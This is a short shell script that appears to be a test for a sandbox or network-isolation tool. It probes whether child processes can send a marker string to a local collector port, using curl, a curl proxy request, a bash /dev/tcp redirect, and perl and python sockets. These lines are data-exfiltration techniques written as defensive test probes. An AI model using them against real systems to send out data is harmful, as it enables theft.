#!/bin/sh
# Sends to a server that is not granted by programs that have their own ways: curl, bash, python, perl.
# class: all: theft by a child process
# plain: message
# flags: --run curl --run bash --run perl --run python3 --run {PYTHON}
# journal: connect *:{COLLECTOR}

for fact; do
  case $fact in COLLECTOR=*) port=${fact#*=} ;; MARK=*) mark=${fact#*=} ;; PYTHON=*) python=${fact#*=} ;; esac
done
echo tried
curl -s -m 5 -d "$mark" "http://127.0.0.1:$port/" 2>&1
curl -s -m 5 -d "$mark" "http://localhost:$port/" 2>&1
curl -s -m 5 -x "http://127.0.0.1:$port" "http://example.com/$mark" 2>&1
bash -c "echo $mark >/dev/tcp/127.0.0.1/$port" 2>&1
perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("127.0.0.1:$ARGV[0]") or die "refused\n"; print $s "$ARGV[1]\n"' "$port" "$mark" 2>&1
"$python" -c 'import socket, sys; socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5).sendall(sys.argv[2].encode())' "$port" "$mark" 2>&1 | tail -1
true
